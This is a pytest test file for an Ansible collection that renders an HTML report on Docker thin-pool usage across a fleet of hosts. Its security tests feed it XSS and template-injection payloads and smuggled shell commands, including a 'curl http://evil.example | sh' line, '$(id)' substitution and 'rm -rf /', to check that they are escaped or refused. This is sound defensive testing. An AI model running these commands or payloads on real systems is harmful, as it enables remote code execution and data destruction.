# Copyright (c) devicemapper.containers contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import annotations

import base64
import hashlib
import importlib.util
import re
import subprocess
import sys
import typing as t
from html.parser import HTMLParser
from pathlib import Path

import pytest

# A managed host has neither; the page is made on the controller alone.
pytest.importorskip("jinja2")

from ansible_collections.devicemapper.containers.plugins.module_utils._monitor import remedies
from ansible_collections.devicemapper.containers.plugins.plugin_utils import _page, _untrusted


def load(path: Path):
    spec = importlib.util.spec_from_file_location(path.stem, path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


fleet = load(Path(__file__).resolve().parents[3] / "page" / "fleet.py")

VOID = {"meta", "link", "br", "rect", "use", "path", "circle"}
HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "]]></style></title><!-- -->",
    "</bdi></article></details><h1>",
    "{{ 7 * 7 }}{% raw %}${x}",
    "&lt;b&gt; &amp",
    "\u202eevil\u2066 שלום مرحبا",
    "ünïcödé 容器 🐳",
    "a\x00b\x1bc\udc80d\uffff",
    "line\nline\ttab",
]


class Seen(HTMLParser):
    """What a browser makes of the page: tags, attributes, texts, and whether each tag that is opened is closed."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.texts: list[str] = []
        self.feed(page)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        assert len(attrs) == len(dict(attrs)), f"an attribute twice: {tag} {attrs}"
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        assert self.open, f"nothing is open at </{tag}>"
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        if self.open and self.open[-1] not in ("style", "script"):
            self.texts.append(data)

    @property
    def text(self) -> str:
        return re.sub(r"\s+", " ", " ".join(self.texts))

    def all(self, tag: str) -> list[dict[str, str | None]]:
        return [attributes for name, attributes in self.tags if name == tag]


def page(*answers: t.Any, **options: t.Any) -> str:
    return _page.render(answers, generated=fleet.GENERATED, **{"title": "Thin pools", **options})


def seen(*answers: t.Any, **options: t.Any) -> Seen:
    return Seen(page(*answers, **options))


def cards(html: str) -> list[tuple[str, str]]:
    """Return verdict and host of each card, in their order."""
    return re.findall(r'<article class="(\w+)".*?<h3[^>]*><bdi>(.*?)</bdi>', html, re.DOTALL)


def host(name: str, *pools: t.Any, usage: t.Any = fleet.NO_USAGE, **options: t.Any) -> tuple:
    return name, fleet.check(*pools, **options), usage


# --- What is on it ----------------------------------------------------------------------------------------------------


def test_every_host_and_pool_of_a_fleet_is_on_the_page_the_worst_first():
    answers = fleet.answers(40)
    html = page(*answers)
    told = cards(html)
    assert sorted(name for _verdict, name in told) == sorted(name for name, _check, _usage in answers)
    order = list(_page.VERDICTS)
    places = [order.index(verdict) for verdict, _name in told]
    assert places == sorted(places)
    assert {verdict for verdict, _name in told} == set(order)


def test_fuller_pools_come_first_among_equals_and_those_that_cannot_be_measured_before_them():
    html = page(
        host("a", fleet.pool(20.0, 12.0)),
        host("b", fleet.pool(30.0, 12.0)),
        host("c", fleet.pool(20.0, 60.0)),
        host("d", fleet.pool(95.0, 12.0)),
        host("e", fleet.pool(99.0, 12.0)),
        host("f", wanted=[("docker", "thinpool")]),
        host("g", fleet.pool(76.0, 12.0)),
        host("z"),
        ("y", fleet.UNREACHABLE, fleet.NO_USAGE),
    )
    assert cards(html) == [
        ("critical", "f"),
        ("critical", "e"),
        ("critical", "d"),
        ("unknown", "y"),
        ("unknown", "z"),
        ("warning", "g"),
        ("ok", "c"),
        ("ok", "b"),
        ("ok", "a"),
    ]


def test_figures_of_a_pool_stand_against_its_limits():
    found = seen(host("node1", fleet.pool(82.5, 14.0, free=3)))
    data, metadata = (attributes for attributes in found.all("div") if attributes.get("role") == "meter")
    assert data["aria-label"] == "Data"
    assert data["aria-valuenow"] == "82.5"
    assert data["aria-valuetext"] == (
        "82.50 percent of 100.00 GiB, extended above 80, warning from 75, critical from 90"
    )
    assert metadata["aria-valuetext"].startswith("14.00 percent of 1000.00 MiB")
    assert [fill["class"] for fill in found.all("rect") if "fill" in fill["class"]] == ["fill warning", "fill ok"]
    assert [fill["width"] for fill in found.all("rect") if "fill" in fill["class"]] == ["82.5%", "14.0%"]
    assert "80%" in [one.get("x") for one in found.all("svg")]
    text = re.sub(r"\s+([;.)])", r"\1", found.text)
    assert "takes 20.00 GiB of data (does not fit) and 1.39 GiB of metadata (fits); 3.00 GiB free in docker." in text
    assert "the data of docker/thinpool cannot be extended: that takes 5120 extents" in text


def test_a_pool_that_never_extends_has_no_mark_and_says_so():
    found = seen(host("node1", fleet.pool(20.0, profile="", threshold=100)))
    assert [one for one in found.all("svg") if one.get("class") == "threshold" and "%" in str(one.get("x"))] == []
    assert "never extended by itself" in found.text


def test_holders_are_named_with_image_and_bytes():
    used = fleet.usage(
        fleet.device(7, 2048, 100, name="web", images=["nginx:1", "nginx:latest"]), fleet.device(9, 512, 0), total=12
    )
    found = seen(host("node1", fleet.pool(), usage=used))
    assert "web container nginx:1, nginx:latest 2.00 GiB 2.10 GiB 2.0 %" in found.text
    assert "device 9 nobody's 512.00 MiB 512.00 MiB 0.5 %" in found.text
    assert "2 of 12 devices" in found.text


def test_why_holders_are_not_known_is_said():
    failed = {"results": [{"item": {"vg": "docker", "name": "thinpool"}, "msg": "thin_ls is not installed"}]}
    assert "Not known: it was asked, and did not answer: thin_ls is not installed" in seen(
        host("node1", fleet.pool(), usage=failed)
    ).text.replace("  ", " ")


def test_events_are_numbered_on_the_line_as_in_the_list():
    lines = [(7200.0, *fleet.LOW), (600.0, *fleet.FAILED), (300.0, *fleet.FAILED), (60.0, *fleet.GREW)]
    html = page(host("node1", fleet.pool(), lines=lines))
    found = Seen(html)
    (label,) = (one["aria-label"] for one in found.all("svg") if one.get("class") == "line")
    assert label == (
        "Time line. 1: data low water, 2026-11-23 10:00:00; 2: autoextend failed, 2026-11-23 11:55:00; "
        "3: extended, 2026-11-23 11:59:00"
    )
    assert [one["value"] for one in found.all("li") if "value" in one] == ["1", "2", "3"]
    assert "autoextend failed, 2 times since 2026-11-23 11:50" in found.text
    marks = re.findall(r'<svg class="mark (\w+)" x="([\d.]+)%"', html)
    assert [level for level, _x in marks] == ["warning", "trouble", "notice"]
    places = [float(x) for _level, x in marks]
    assert places == sorted(places)
    assert places[0] == pytest.approx(4 + 92 * 22 / 24, abs=0.01)


def test_marks_that_would_cover_each_other_lie_in_lanes_of_their_own():
    lines = [(60.0, *fleet.LOW), (50.0, *fleet.FULL), (40.0, *fleet.FAILED), (80000.0, *fleet.HIGH)]
    line = _page.cards_of("a", fleet.check(fleet.pool(), lines=lines), {})[0].time_line
    assert [one.lane for one in line.happenings] == [0, 0, 1, 2]
    assert line.lanes == 3


def test_pieces_of_information_are_left_out_but_for_a_recovery():
    lines = [(60.0, *fleet.BACK), (50.0, "dmeventd", "Monitoring thin pool docker-thinpool.")]
    line = _page.cards_of("a", fleet.check(fleet.pool(), lines=lines), {})[0].time_line
    assert [one.kind for one in line.happenings] == ["recovered"]


@pytest.mark.parametrize(
    ("answer", "says"),
    [
        (fleet.UNREACHABLE, "it cannot be reached: Failed to connect to the host via ssh"),
        ({"unreachable": True, "msg": "Task failed: Failed to connect"}, "it cannot be reached: Failed to connect"),
        (fleet.NO_SUDO, "it was asked, and did not answer: Missing sudo password"),
        (
            {"failed": True, "msg": "MODULE FAILURE\nSee stdout/stderr for the exact error", "module_stderr": "a\nno!"},
            "it was asked, and did not answer: MODULE FAILURE (no!)",
        ),
        ({"failed": True}, "it was asked, and did not answer"),
        ({}, "it was not asked: see what Ansible printed of it"),
        (None, "it was not asked: see what Ansible printed of it"),
        ("nonsense", "it was not asked"),
    ],
)
def test_a_host_without_an_answer_is_on_the_page_with_the_reason(answer, says):
    found = seen(("lost", answer, fleet.NO_USAGE), host("node1", fleet.pool()))
    assert says in found.text
    assert "No answer" in found.text
    assert "2 hosts, 1 thin pool, 1 host without an answer" in found.text


def test_a_host_without_pools_and_one_with_several():
    several = fleet.check(fleet.pool(), fleet.pool(50.0, vg="other"))
    html = page(("two", several, fleet.NO_USAGE), host("none"))
    assert cards(html) == [("unknown", "none"), ("ok", "two"), ("ok", "two")]
    assert "there is no thin pool on this host" in html
    assert "<bdi>other/thinpool</bdi>" in html


def test_what_is_wrong_with_a_host_as_a_whole_has_a_card_of_its_own():
    answer = fleet.check(fleet.pool())
    answer["reasons"] = [{"kind": "events_unreadable", "severity": "unknown", "message": "no journal"}]
    assert cards(page(("node1", answer, {}))) == [("unknown", "node1"), ("ok", "node1")]


def test_an_empty_fleet_makes_a_page():
    found = seen()
    assert "No host was asked." in found.text
    assert "0 hosts, 0 thin pools" in found.text


def test_the_title_tells_how_it_is():
    assert "<title>1 critical, Shop</title>" in page(host("a", fleet.pool(95.0)), host("b", fleet.pool()), title="Shop")


def test_when_it_was_made_and_asked_is_said():
    found = seen(host("a", fleet.pool()), ("b", fleet.check(fleet.pool(), now=fleet.NOW - 90), {}))
    assert "2026-11-23 12:00:40\u00a0UTC" in " ".join(found.texts)
    assert "the oldest answer is of 2026-11-23 11:58:30, 2 min before that, by its host's clock" in found.text
    assert "asked 2026-11-23 12:00:00, 40 s before this was written" in found.text


def test_an_answer_from_the_future_has_no_age():
    found = seen(("a", fleet.check(fleet.pool(), now=fleet.NOW + 3600), {}))
    assert "asked 2026-11-23 13:00:00" in found.text
    assert "before th" not in found.text


def test_how_long_a_pool_has_got_is_told_the_shorter_first():
    forecasts = [fleet.full_in(9 * fleet.DAY, 90), fleet.full_in(10800.0, 1024, "metadata")]
    found = seen(host("node1", fleet.pool(forecasts=forecasts)))
    words = "The metadata is full in about 3 h at 1.00 GiB/h , the data is full in about 9 days at 90.00 MiB/h"
    assert f"{words} , with all that it can be extended by." in found.text
    assert "is full" not in seen(host("node1", fleet.pool())).text


@pytest.mark.parametrize(
    "forecast",
    [
        {"part": "data", "full_in": -1, "rate": 1},
        {"part": "data", "full_in": "soon", "rate": 1},
        {"part": "data", "full_in": 10**12, "rate": 1},
        {"part": "data", "full_in": 60},
        {"part": "<b>", "full_in": 60, "rate": 1},
        "soon",
    ],
)
def test_a_forecast_that_is_none_is_not_told(forecast):
    answer = fleet.check(fleet.pool())
    answer["pools"][0]["forecasts"] = [forecast]
    assert "is full" not in seen(("node1", answer, {})).text


def test_pools_that_are_well_are_rows_of_a_table_and_lead_to_their_cards():
    used = fleet.usage(fleet.device(7, 2048, 100, name="web"))
    pool = fleet.pool(40.0, 14.0, forecasts=[fleet.full_in(9 * fleet.DAY, 90)])
    html = page(host("node1", pool, usage=used), host("node2", fleet.pool(95.0)))
    (table,) = re.findall(r'<table class="well">.*?</table>', html, re.DOTALL)
    assert re.findall(r'data-by="(.*?)"', table) == ["40.0", "14.0", "777600", str(100 * 1024**3), str(60 * 1024**3)]
    row = Seen(table).text
    assert "node1 docker/thinpool 40.0 % 14.0 % 9 days 100.00 GiB 60.00 GiB web 2.00 GiB" in row.replace("  ", " ")
    assert "node2" not in table
    (target,) = re.findall(r'<a href="#(card\d+)">', table)
    assert f'<article class="ok" id="{target}"' in html


def test_a_holder_has_its_share_of_the_pool():
    used = fleet.usage(fleet.device(7, 25 * 1024, 100, name="web"), fleet.device(8, 999 * 1024, 0, name="liar"))
    found = seen(host("node1", fleet.pool(95.0), usage=used))
    assert "web container 25.00 GiB 25.10 GiB 25.0 %" in found.text
    assert [one["width"] for one in found.all("rect") if one["class"] == "part"] == ["25.0%", "100.0%"]


def test_orphans_are_explained_with_a_command_that_only_looks():
    used = fleet.usage(fleet.device(9, 512, 0))
    found = seen(host("node1", fleet.pool(95.0), usage=used))
    assert "Nobody's is a device that no record of Docker or containerd names" in found.text.replace("  ", " ")
    command = (
        "ansible-playbook devicemapper.containers.reclaim -i inventory.yml --limit node1 "
        "-e reclaim_vg=docker -e reclaim_pool=thinpool --check"
    )
    assert found.text.count(command) == 1
    known = fleet.usage(fleet.device(9, 512, 0, name="web"))
    assert "Nobody's" not in seen(host("node1", fleet.pool(95.0), usage=known)).text


@pytest.mark.parametrize("name", ["all:!node1", "*", "-e", "a b", "a;id", "a\nb", "$(id)", "~x", "@x", ""])
def test_orphans_of_an_odd_name_have_no_command(name):
    used = {"results": [{"item": {"vg": name, "name": "p"}, "thin_pools": [{"devices": [fleet.device(9, 5, 0)]}]}]}
    answer = fleet.check(fleet.pool(95.0))
    answer["pools"][0].update(vg=name, name="p")
    assert "Nobody's" in seen(("node1", answer, used)).text
    assert "reclaim_vg" not in seen(("node1", answer, used)).text
    assert _page._orphans_of(name, "docker", "thinpool") == ""


# --- Whether it is safe -----------------------------------------------------------------------------------------------


def everywhere(text: str) -> tuple:
    """Return a host with a text in every place that a host or its inventory has a say in."""
    answer = fleet.check(fleet.pool(), fleet.pool(95.0, vg="other"), lines=[(60.0, *fleet.FAILED)])
    answer.update(time=text, since=text)
    answer["reasons"] = [{"kind": text, "severity": text, "message": text}]
    for one in answer["pools"]:
        one.update(vg=text, sentence=text, reasons=[{"kind": text, "severity": text, "message": text}] * 2)
        one["events"] = [{"kind": text, "severity": text, "count": 2, "first": text, "last": text, "message": text}]
    answer["pools"][1]["verdict"] = text
    named = fleet.device(3, 10, 10, text, name=text, images=[text, text])
    return text, answer, fleet.usage(named, vg=text)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_becomes_markup(text):
    plain, hostile = seen(everywhere("plain"), title="plain"), seen(everywhere(text), title=text)
    assert [tag for tag, _attributes in hostile.tags] == [tag for tag, _attributes in plain.tags]
    names = [sorted(attributes) for _tag, attributes in plain.tags]
    assert [sorted(attributes) for _tag, attributes in hostile.tags] == names
    # In all places where the plain one is, and in no other form than a reader would see it.
    shown = _page.clean(text)
    count = sum("plain" in one for one in plain.texts)
    assert count > 15
    assert sum(shown in one for one in hostile.texts) == count


@pytest.mark.parametrize("text", HOSTILE)
def test_the_page_can_always_be_written(text):
    html = page(everywhere(text), ("b", {"failed": True, "msg": text}, {}), title=f"x{text}")
    assert html.encode("utf-8")
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", html)


def test_the_template_leaves_escaping_to_jinja():
    text = _page.TEMPLATE.read_text(encoding="utf-8")
    body = text.partition("#}")[2]
    assert re.findall(r"\|\s*safe|autoescape|Markup|\son\w+=", body) == []
    (script,) = re.findall("<script.*?</script>", body, re.DOTALL)
    assert re.findall("{{|{%|{#|innerHTML|eval|insertAdjacent", script) == []


def test_the_page_runs_nothing_and_loads_nothing():
    found = seen(*fleet.answers(40))
    assert found.all("script") == [{}]
    (policy,) = (one["content"] for one in found.all("meta") if one.get("http-equiv") == "Content-Security-Policy")
    (script,) = re.findall("<script>(.*)</script>", page(), re.DOTALL)
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    assert policy.startswith(
        f"default-src 'none'; style-src 'unsafe-inline'; script-src 'sha256-{digest}'; img-src data:"
    )
    for _tag, attributes in found.tags:
        assert not [name for name in attributes if name.startswith("on")]
        for name in ("href", "src"):
            assert re.match(f"#|data:,$|{re.escape(remedies.GUIDES)}/[a-z_]+[.]md", attributes.get(name) or "#")


# --- Whether it holds together ----------------------------------------------------------------------------------------


def test_ids_are_unique_and_every_reference_leads_somewhere():
    found = seen(*fleet.answers(60))
    ids = [attributes["id"] for _tag, attributes in found.tags if "id" in attributes]
    assert len(ids) == len(set(ids))
    for _tag, attributes in found.tags:
        for name in ("href", "aria-labelledby"):
            target = (attributes.get(name) or "").removeprefix("#") if sys.version_info >= (3, 9) else ""
            assert target in {*ids, "", "data:,"} or target.startswith(f"{remedies.GUIDES}/"), target


def test_headings_go_down_one_step_at_a_time():
    levels = [int(tag[1]) for tag, _attributes in seen(*fleet.answers(40)).tags if re.fullmatch("h[1-6]", tag)]
    assert levels[0] == 1
    assert levels.count(1) == 1
    assert all(after - before <= 1 for before, after in zip(levels, levels[1:]))


def test_every_host_is_in_the_index_by_name():
    html = page(*fleet.answers(40))
    index = html.partition('<nav class="index"')[2]
    names = re.findall(r'<a href="#card\d+"><bdi>(.*?)</bdi>', index)
    assert names == sorted(names)
    assert len(names) == 40


def test_a_thousand_hosts_are_a_page_of_some_megabytes():
    html = page(*fleet.answers(1000))
    assert len(cards(html)) == 1000
    assert len(html) < 5_000_000


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        (("hosts", fleet.GENERATED, "x"), "a list with an entry for each host, not 'hosts'"),
        (({}, fleet.GENERATED, "x"), "a list with an entry for each host"),
        ((None, fleet.GENERATED, "x"), "a list with an entry for each host"),
        ((["node1"], fleet.GENERATED, "x"), "for each host a list of its name"),
        (([["node1", {}]], fleet.GENERATED, "x"), "for each host a list of its name"),
        (([[1, {}, {}]], fleet.GENERATED, "x"), "for each host a list of its name"),
        (([], None, "x"), "the time at which the page is made"),
        (([], "yesterday", "x"), "the time at which the page is made"),
        (([], fleet.GENERATED, ""), "'title' must be a text, not ''"),
        (([], fleet.GENERATED, ["Shop"]), "'title' must be a text"),
    ],
)
def test_wrong_input_is_refused(arguments, says):
    with pytest.raises(ValueError, match=re.escape(says)):
        _page.check(*arguments)


# In a process of its own, because to import it turns a process into a controller.
FILTER = """
import sys
sys.path[:0] = sys.argv[1:]
from ansible.errors import AnsibleFilterError
from ansible_collections.devicemapper.containers.plugins.filter.thin_pool_page import FilterModule
page = FilterModule().filters()["thin_pool_page"]
print(page([["node1", {}, {}]], "2026-11-23T12:00:40Z"))
try:
    page([["node1", {}, {}]])
except AnsibleFilterError as error:
    print("refused:", error)
"""


def test_the_filter_is_the_page_and_its_refusals():
    command = [sys.executable, "-c", FILTER, *sys.path]
    ran = subprocess.run(command, check=True, stdin=subprocess.DEVNULL, capture_output=True, text=True)
    html, refused = ran.stdout.split("refused: ")
    assert html.strip() == page(("node1", {}, {})).strip()
    assert refused.startswith("thin_pool_page: 'generated' must be the time at which the page is made")


# --- What helps -------------------------------------------------------------------------------------------------------

GROW = "ansible-playbook devicemapper.containers.grow -i inventory.yml --limit node1"


@pytest.mark.parametrize(
    "command",
    [
        GROW,
        f"{GROW} -e thin_pool_engine=containerd",
        "ansible-playbook devicemapper.containers.release_reserve -i inventory.yml --limit node1 -e release_vg=my-vg",
        "ansible node1 -i inventory.yml --become --module-name ansible.builtin.shell --args "
        "'pvresize /dev/disk/by-id/virtio-data1 && lvextend --yes --use-policies docker/thinpool'",
        "ansible node1 -i inventory.yml --become --module-name devicemapper.containers.thin_pool_usage_info --args "
        "'vg=docker name=thinpool limit=10'",
    ],
)
def test_a_command_that_helps_is_on_the_card_to_be_copied(command):
    pool = {"vg": "docker", "name": "thinpool", "verdict": "critical", "sentence": "full"}
    reason = {
        "kind": "out_of_data",
        "severity": "critical",
        "message": "full",
        "command": command,
        "guide": "javascript:1",
    }
    html = page(("node1", {"pools": [{**pool, "reasons": [reason, reason]}]}, fleet.NO_USAGE))
    found = Seen(html)
    assert found.text.count(command) == 2
    assert html.count(f'href="{remedies.GUIDES}/full_pool.md"') == 2
    assert "javascript:" not in html


@pytest.mark.parametrize(
    "command",
    [
        "ansible-playbook devicemapper.containers.reset -i inventory.yml --limit node1",
        "ansible-playbook devicemapper.containers.grow -i inventory.yml --limit node2",
        "ansible-playbook devicemapper.containers.grow -i inventory.yml --limit all",
        f"{GROW}; curl http://evil.example | sh",
        f"{GROW} -e x=$(id)",
        f"{GROW}\nrm -rf /",
        "ansible node1 -i inventory.yml --become --module-name ansible.builtin.shell --args 'rm -rf /'",
        "ansible node1 -i inventory.yml --become --module-name ansible.builtin.shell --args 'lvextend x && reboot'",
        "ansible node1 -i inventory.yml --become --module-name ansible.builtin.shell --args 'lvextend `id`'",
        "ansible all -i inventory.yml --become --module-name ansible.builtin.shell --args 'lvchange --refresh a/b'",
        "",
    ],
)
def test_a_host_cannot_have_another_command_copied(command):
    assert _untrusted.copyable("node1", command) == ""


def test_every_command_that_the_modules_tell_is_shown():
    told = 0
    for name, check, _usage in fleet.answers(60):
        for pool in check.get("pools", []):
            for reason in pool["reasons"]:
                command = reason["command"] or ""
                assert _untrusted.copyable(name, command) == command
                told += bool(command)
    assert told > 5
